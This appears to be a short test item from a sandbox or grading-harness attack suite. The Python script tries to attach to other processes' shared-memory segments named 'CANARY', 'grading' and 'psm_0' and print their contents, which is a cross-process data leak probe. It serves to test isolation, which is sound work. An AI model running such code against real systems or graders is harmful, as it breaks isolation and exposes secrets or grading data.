# attack: attaches shared memory of other processes by name
# family: leaks
# base: blank
# points: 0
# %% last
import os
from multiprocessing import shared_memory
for name in (os.path.basename("CANARY"), "grading", "psm_0"):
    try:
        print(bytes(shared_memory.SharedMemory(name).buf))
    except Exception as error:
        print(error)
